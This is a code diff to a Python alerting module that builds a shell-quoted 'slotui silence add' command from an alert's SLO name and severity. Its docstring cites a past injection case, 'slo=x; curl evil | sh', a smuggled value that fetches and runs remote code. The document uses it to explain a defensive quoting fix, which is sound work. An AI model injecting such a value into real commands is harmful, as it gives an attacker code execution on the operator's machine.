@@ -11,7 +11,6 @@ missing. Nothing here does I/O.
 
 from __future__ import annotations
 
-import shlex
 from collections.abc import Mapping
 from dataclasses import dataclass
 from typing import TYPE_CHECKING, Any
@@ -128,8 +127,11 @@ def silence_command(alert: "Alert") -> str:
 
     The name is shell-quoted as the engine's is: copied from a test alert (which has no engine
     command), ``slo=x; curl evil | sh`` ran the rest of an SLO's name as a shell command."""
+    from slotui.alerting.context import shell_matcher
+
     return alert.annotations.get("silence_command") or (
-        f"slotui silence add slo={shlex.quote(alert.slo)} severity={alert.severity} -d 1h --comment 'ack'"
+        f"slotui silence add {shell_matcher('slo', alert.slo)} {shell_matcher('severity', alert.severity)} -d 1h "
+        "--comment 'ack'"
     )
 
 
